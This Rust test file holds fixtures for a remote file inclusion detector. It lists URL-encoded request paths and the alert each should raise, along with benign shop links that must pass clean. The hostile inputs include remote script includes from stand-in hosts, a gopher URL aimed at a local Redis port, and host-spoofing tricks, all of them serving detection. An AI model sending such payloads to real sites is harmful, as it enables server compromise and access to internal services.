//! Remote file inclusion fixtures.

use super::{check, check_clean};

#[test]
fn flags_urls_that_cut_off_the_application_suffix() {
    check(
        "/index.php?page=http%3A%2F%2Fcdn.evil.test%2Fs.txt%3F",
        &["rfi query:page high: URL ending with ? or null byte"],
    );
    check("/index.php?page=https%3F", &["rfi query:page high: URL ending with ? or null byte"]);
}

#[test]
fn flags_urls_in_include_parameters() {
    check(
        "/view.php?template=http%3A%2F%2F203.0.113.7%2Fsh.php",
        &["rfi query:template high: URL in an include parameter"],
    );
    check(
        "/view.php?inc_path=https%3A%2F%2Fother.test%2Fa",
        &["rfi query:inc_path medium: URL in an include parameter"],
    );
}

#[test]
fn flags_url_tricks_and_exotic_schemes() {
    check(
        "/go?to=https%3A%2F%2Fshop.example.tw%40evil.test%2F",
        &["rfi query:to high: credentials or @ before the host"],
    );
    check(
        "/fetch?u=gopher%3A%2F%2F127.0.0.1%3A6379%2F_INFO",
        &["rfi query:u high: exotic URL scheme"],
    );
    check(
        "/fetch?u=jar%3Ahttp%3A%2F%2Fevil.test%2Fx.jar!%2F",
        &["rfi query:u high: exotic URL scheme"],
    );
    check(
        "/go?to=https%3A%2F%2Fshop.example.com.evil.test%2F",
        &["rfi query:to medium: domain hidden in host name"],
    );
    check(
        "/go?to=https%3A%2F%2Finternal.test%3A8443%2F",
        &["rfi query:to medium: URL with explicit port"],
    );
    check("/img/https://evil.test/x.png", &["rfi path medium: URL embedded in path"]);
}

#[test]
fn leaves_the_shops_own_links_alone() {
    check_clean(&[
        "/cart?return_url=https%3A%2F%2Fshop.example.tw%2Fcheckout",
        "/login?next=%2Faccount%2Forders%3Fpage%3D2",
        "/go?url=https%3A%2F%2Fwww.example.com.tw%2Fsale",
        "/?utm_source=https%3A%2F%2Fwww.facebook.com%2F",
        "/share?u=https%3A%2F%2Fshop.example.tw%2Fp%2F10023%3Fcolor%3Dred",
    ]);
}
